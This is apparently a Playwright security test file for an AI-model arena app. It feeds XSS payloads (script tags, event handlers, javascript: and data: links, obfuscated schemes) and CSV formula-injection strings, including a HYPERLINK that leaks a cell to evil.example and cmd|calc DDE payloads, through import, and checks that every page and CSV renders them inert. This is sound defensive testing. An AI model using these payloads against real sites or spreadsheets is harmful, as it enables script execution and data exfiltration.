import type { APIRequestContext, Locator, Page } from "@playwright/test";
import { CsvScanner } from "../lib/import/csv";
import { ADMIN, expect, test } from "./fixtures";
import { signIn } from "./pages/admin-page";
import { ArenaPage } from "./pages/arena-page";

/**
 * Hostile text in through the real import (battles with votes, bearer token), then out through
 * every page that draws it — the arena before and after a vote, the leaderboard, the model
 * pages, the admin tables — and every CSV: nothing may run, load, navigate, leave a handler or
 * a `javascript:` link in the DOM, and no CSV cell may start a spreadsheet formula.
 *
 * On a server of its own, like every spec. The hostile prompts get a category of their own, and
 * every model it hides to make the arena draw them is shown again at the end, the hostile ones
 * hidden.
 */
test.describe.configure({ mode: "serial" });

const CORPUS = [
  "<script>window.__xss='script';alert('script')</script>",
  "<img src=x onerror=\"window.__xss='img';alert('img')\">",
  "<svg onload=\"window.__xss='svg'\"><circle r=10 /></svg>",
  "<svg><script>window.__xss='svg-script'</script></svg>",
  "<iframe src=\"javascript:window.parent.__xss='iframe'\"></iframe>",
  '<object data="javascript:window.__xss=\'object\'"></object><embed src="javascript:alert(1)">',
  "<details open ontoggle=\"window.__xss='details'\">x</details>",
  "<a href=\"javascript:window.__xss='a-tag'\">html link</a>",
  "[md link](javascript:window.__xss='md-link')",
  "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![img](javascript:window.__xss='md-img')",
  "<javascript:window.__xss='autolink'>",
  "[ref link][r]\n\n[r]: javascript:window.__xss='ref-link'",
  "[**nested** <img src=x onerror=\"window.__xss='nested'\">](javascript:alert(1))",
  "&lt;script&gt;window.__xss='entity'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "<style>body{display:none}</style>",
  "<form action=\"javascript:window.__xss='form'\"><button>submit</button></form>",
  "<math><mtext><img src=x onerror=\"window.__xss='mathml'\"></mtext></math>",
  "$\\href{javascript:window.__xss='katex-href'}{click}$ and $\\url{javascript:alert(1)}$",
  "$$\\htmlId{x}{y} \\class{a}{b}$$",
  "```html\n<script>window.__xss='code'</script>\n```",
  '<base href="javascript:alert(1)//"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  // links in other spellings of the scheme
  "[case](JaVaScRiPt:window.__xss='case') [space]( javascript:window.__xss='space')",
  "[entity](&#106;avascript:window.__xss='entity-link') [vb](vbscript:msgbox(1))",
  "[tab](java\tscript:window.__xss='tab')",
];
/** Text cells a spreadsheet would run, as a prompt or a response starts. */
const CSV_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
];

const HOSTILE_MODELS = [
  "<img src=x onerror=\"window.__xss='model'\">",
  '=HYPERLINK("http://evil.example/?m","click")',
  "javascript:window.__xss='slug'",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
/** Set through the admin model editor: display name, organization, and a link it must refuse. */
const EDITS = [
  {
    displayName: "\"><script>window.__xss='display'</script>",
    organization: "<svg onload=\"window.__xss='org'\">",
    link: "https://example.com/hostile-model",
  },
  { displayName: "-2+3 model", organization: '+HYPERLINK("http://evil.example","org")', link: "" },
];
const REFUSED_LINKS = [
  "javascript:window.__xss='link'",
  "data:text/html,<script>window.__xss='data-link'</script>",
  "vbscript:msgbox(1)",
];
const CATEGORY = "xss-hostile";
const FORMULA = /^[=+\-@\t\r]/;
/** React's own placeholder on forms whose action is a function: not ours to flag. */
const REACT_FORM_ACTION = "javascript:throw new Error('A React form was unexpectedly submitted.";

function battlesFile(): string {
  const pairs: [number, number][] = [
    [0, 1],
    [1, 2],
    [2, 3],
    [3, 0],
    [0, 2],
    [1, 3],
  ];
  const winners = ["model_a", "model_b", "tie", "tie (bothbad)", "model_a"];
  const lines: string[] = [];
  for (let i = 0; i < 18; i++) {
    const [a, b] = pairs[i % pairs.length] as [number, number];
    const lead = CSV_PAYLOADS[i % CSV_PAYLOADS.length];
    lines.push(
      JSON.stringify({
        model_a: HOSTILE_MODELS[a],
        model_b: HOSTILE_MODELS[b],
        prompt: `${lead} — hostile prompt ${i}\n\n${CORPUS.slice(0, 8).join("\n\n")}`,
        response_a: `${CSV_PAYLOADS[(i + 1) % CSV_PAYLOADS.length]}\n\n${CORPUS.join("\n\n")}`,
        response_b: `- ${i}\n\n${[...CORPUS].reverse().join("\n\n---\n\n")}`,
        winner: winners[i % winners.length],
        tags: [CATEGORY],
      }),
    );
  }
  return `${lines.join("\n")}\n`;
}

/** Everything that could run, load or navigate in `root` (the page's main content). */
function findings(page: Page, root = "main"): Promise<string[]> {
  return page.evaluate(
    ([selector, reactAction]) => {
      const out: string[] = [];
      const scope = document.querySelector(selector as string);
      if (!scope) return [`no ${selector}`];
      for (const el of scope.querySelectorAll("*")) {
        const tag = el.tagName.toLowerCase();
        if (["script", "iframe", "object", "embed", "base", "meta", "frame"].includes(tag))
          out.push(`<${tag}>`);
        // the app's own forms are fine; none may come out of rendered text
        if (el.closest(".prose") && ["form", "style", "details", "input", "button"].includes(tag))
          out.push(`<${tag}> in text`);
        for (const a of el.attributes) {
          if (a.name.startsWith("on")) out.push(`${tag}[${a.name}]`);
          const url = ["href", "src", "action", "formaction", "data", "xlink:href", "poster"];
          if (
            url.includes(a.name) &&
            /^\s*(javascript|data|vbscript):/i.test(a.value) &&
            !a.value.startsWith(reactAction as string)
          )
            out.push(`${tag}[${a.name}=${a.value.slice(0, 40)}]`);
        }
      }
      return out;
    },
    [root, REACT_FORM_ACTION],
  );
}

/** Watches a page for dialogs (alert, confirm, prompt) from the first script on. */
function watch(page: Page): string[] {
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  return dialogs;
}

async function expectInert(page: Page, dialogs: string[], where: string) {
  expect(await findings(page), where).toEqual([]);
  expect(
    await page.evaluate(() => (window as unknown as { __xss?: string }).__xss),
    where,
  ).toBeUndefined();
  expect(dialogs, where).toEqual([]);
}

/** Clicks every link inside `scope`; none may run code or leave the page. */
async function clickAll(page: Page, scope: Locator) {
  const url = page.url();
  for (const link of await scope.locator("a").all()) {
    await link.click({ noWaitAfter: true, timeout: 500, modifiers: [] }).catch(() => {});
  }
  await page.waitForTimeout(300);
  expect(page.url()).toBe(url);
}

function csvCells(text: string): string[][] {
  const s = new CsvScanner();
  s.push(text);
  const rows: string[][] = [];
  for (let r = s.next(true); r !== null; r = s.next(true)) rows.push(r.fields);
  return rows;
}

/** Saves the model editor form of `slug` with `fields`; it must answer `expected`. */
async function saveModel(
  page: Page,
  slug: string,
  fields: { displayName?: string; organization?: string; link?: string; hidden?: boolean },
  expected: RegExp | string = /^Saved /,
) {
  const form = page.getByTestId(`model-${slug}`);
  if (fields.displayName !== undefined)
    await form.getByLabel("Display name").fill(fields.displayName);
  if (fields.organization !== undefined)
    await form.getByLabel("Organization").fill(fields.organization);
  if (fields.link !== undefined) await form.getByLabel("Link").fill(fields.link);
  if (fields.hidden !== undefined) await form.getByLabel("Hidden").setChecked(fields.hidden);
  const answered = page.waitForResponse(
    (r) => r.request().method() === "POST" && new URL(r.url()).pathname === "/admin/models",
  );
  await form.getByRole("button", { name: "Save" }).click();
  await answered;
  await expect(form.locator("p[aria-live]"), slug).toHaveText(expected);
}

async function modelSlugs(page: Page): Promise<{ slug: string; hidden: boolean }[]> {
  await page.goto("/admin/models");
  const forms = page.locator("[data-testid=model-list] form");
  const out: { slug: string; hidden: boolean }[] = [];
  for (const form of await forms.all()) {
    const id = (await form.getAttribute("data-testid")) ?? "";
    out.push({
      slug: id.replace(/^model-/, ""),
      hidden: await form.getByLabel("Hidden").isChecked(),
    });
  }
  return out;
}

let shownBefore: string[] = [];

test("hostile text comes in through the real import, and the editor refuses non-http links", async ({
  page,
  request,
}) => {
  test.setTimeout(120_000);
  const res = await request.post("/api/admin/import?votes=1", {
    headers: { Authorization: `Bearer ${ADMIN.token}`, "Content-Type": "application/x-ndjson" },
    data: Buffer.from(battlesFile()),
  });
  expect(res.status(), await res.text()).toBe(201);
  expect((await res.json()).imported).toMatchObject({ prompts: 18, votes: 18 });

  await signIn(page, "/admin/models");
  const dialogs = watch(page);
  for (const [i, edit] of EDITS.entries()) {
    const slug = HOSTILE_MODELS[i] as string;
    await page.goto("/admin/models");
    for (const link of i === 0 ? REFUSED_LINKS : []) {
      await saveModel(page, slug, { link }, "link: Link must be an http:// or https:// URL");
    }
    await saveModel(page, slug, edit);
  }
  await expectInert(page, dialogs, "/admin/models");
  await expect(page.getByTestId(`model-${HOSTILE_MODELS[0]}`).getByLabel("Link")).toHaveValue(
    "https://example.com/hostile-model",
  );

  // Only the hostile models stay visible, so the arena can draw nothing but their prompts.
  const models = await modelSlugs(page);
  shownBefore = models
    .filter((m) => !m.hidden && !HOSTILE_MODELS.includes(m.slug))
    .map((m) => m.slug);
  for (const slug of shownBefore) await saveModel(page, slug, { hidden: true });
});

test("the arena draws hostile battles inert, before and after the vote", async ({ browser }) => {
  test.setTimeout(90_000);
  const context = await browser.newContext();
  const page = await context.newPage();
  const dialogs = watch(page);
  const arena = new ArenaPage(page);
  for (let round = 0; round < 2; round++) {
    if (round === 0) await arena.goto();
    else {
      await arena.newBattle.click();
      await expect(arena.modelA).toHaveCount(0);
    }
    await expect(arena.prompt).toContainText("hostile prompt");
    await expect(arena.responseA).toContainText("<script>");
    await expectInert(page, dialogs, `battle ${round}`);
    await clickAll(page, page.locator("[data-testid=response-a], [data-testid=response-b]"));
    await arena.voteButton("a").click();
    await arena.expectRevealed();
    const revealed = `${await arena.modelA.innerText()} ${await arena.modelB.innerText()}`;
    expect(revealed).toMatch(/<img src=x|HYPERLINK|javascript:window|@SUM|<script>|2\+3 model/i);
    await expectInert(page, dialogs, `battle ${round} revealed`);
  }
  await context.close();
});

test("the leaderboard and model pages show hostile names as text", async ({ page }) => {
  test.setTimeout(90_000);
  const dialogs = watch(page);
  for (const url of ["/leaderboard", `/leaderboard/${CATEGORY}`]) {
    await page.goto(url);
    // (the hostile models met only each other: they stand apart from the demo set's board)
    const rows = page.getByTestId("leaderboard-row");
    await expect(rows.filter({ hasText: "HYPERLINK" }).first()).toBeVisible();
    await expect(rows.filter({ hasText: "<script>" }).first()).toBeVisible();
    await expectInert(page, dialogs, url);
  }
  for (const slug of HOSTILE_MODELS) {
    const url = `/models/${encodeURIComponent(slug)}`;
    const res = await page.goto(url);
    expect(res?.status(), url).toBe(200);
    await expect(page.getByTestId("model-name")).toBeVisible();
    await expectInert(page, dialogs, url);
  }
  await page.goto(`/models/${encodeURIComponent(HOSTILE_MODELS[0] as string)}`);
  await expect(page.locator('main a[href="https://example.com/hostile-model"]')).toHaveCount(1);
});

test("the admin tables show hostile text as text", async ({ page }) => {
  test.setTimeout(60_000);
  await signIn(page, "/admin");
  const dialogs = watch(page);
  for (const url of [
    "/admin",
    "/admin/models",
    `/admin/prompts?category=${CATEGORY}`,
    "/admin/prompts?q=hostile%20prompt",
    "/admin/votes",
  ]) {
    await page.goto(url);
    await expect(page.locator("main")).toContainText(/HYPERLINK|hostile prompt|Dashboard/);
    await expectInert(page, dialogs, url);
  }
  await page.goto(`/admin/prompts?category=${CATEGORY}`);
  await expect(page.getByTestId("prompt-count")).toContainText("18 prompts");
});

async function csv(request: APIRequestContext, url: string): Promise<string[][]> {
  const res = await request.get(url, { headers: { Authorization: `Bearer ${ADMIN.token}` } });
  expect(res.status(), url).toBe(200);
  expect(res.headers()["content-type"], url).toContain("text/csv");
  return csvCells(await res.text());
}

test("every CSV download neutralises formula cells and keeps numbers numbers", async ({
  request,
}) => {
  const board = await csv(request, `/api/leaderboard?category=${CATEGORY}&format=csv`);
  const [head, ...rows] = board;
  expect(rows.length).toBe(HOSTILE_MODELS.length);
  const col = (name: string) => head?.indexOf(name) ?? -1;
  for (const row of rows) {
    for (const name of ["model", "display_name", "organization", "license"])
      expect(row[col(name)] ?? "", name).not.toMatch(FORMULA);
    for (const name of ["rank", "rating", "ci_lower", "ci_upper", "votes", "win_rate"])
      expect(Number.isFinite(Number(row[col(name)])), `${name} ${row[col(name)]}`).toBe(true);
  }
  const models = rows.map((r) => r[col("model")]);
  expect(models).toContain(`'=HYPERLINK("http://evil.example/?m","click")`);
  expect(models).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
  expect(rows.map((r) => r[col("organization")])).toContain(
    `'+HYPERLINK("http://evil.example","org")`,
  );
  expect(rows.map((r) => r[col("display_name")])).toContain("'-2+3 model");

  const battles = await csv(request, "/api/admin/export/battles?format=csv");
  const cells = battles.flat();
  expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
  expect(cells).toContain(`'=HYPERLINK("http://evil.example/?m","click")`);
  expect(cells.some((c) => c.startsWith("'+cmd|' /C calc'!A0"))).toBe(true);
  const tstamp = battles[0]?.indexOf("tstamp") ?? -1;
  for (const row of battles.slice(1)) expect(Number(row[tstamp])).toBeGreaterThan(1e9);
});

test.afterAll(async ({ browser }) => {
  // Leave the arena as the other files know it: every model shown again, the hostile ones hidden.
  test.setTimeout(120_000);
  const page = await browser.newPage();
  await signIn(page, "/admin/models");
  await page.goto("/admin/models");
  for (const slug of shownBefore) await saveModel(page, slug, { hidden: false });
  for (const slug of HOSTILE_MODELS) await saveModel(page, slug, { hidden: true });
  await page.close();
});
